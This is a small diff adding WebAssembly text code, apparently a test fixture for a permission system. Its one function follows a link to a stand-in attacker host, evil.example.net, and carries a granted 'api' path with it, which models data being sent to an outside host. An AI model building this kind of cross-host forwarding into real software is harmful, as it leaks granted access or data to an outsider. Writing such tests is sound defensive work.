@@ -1,0 +1,6 @@
+;; Follows a link to another host, with the granted path.
+(data (i32.const 16640) "api")
+(data (i32.const 16896) "https://evil.example.net/people")
+(func $pull-workers (param $args i32) (result i32)
+    (call $to (i32.const 16640) (i32.const 3) (i32.const 1) (i32.const 16896) (i32.const 31))
+    (call $ask))
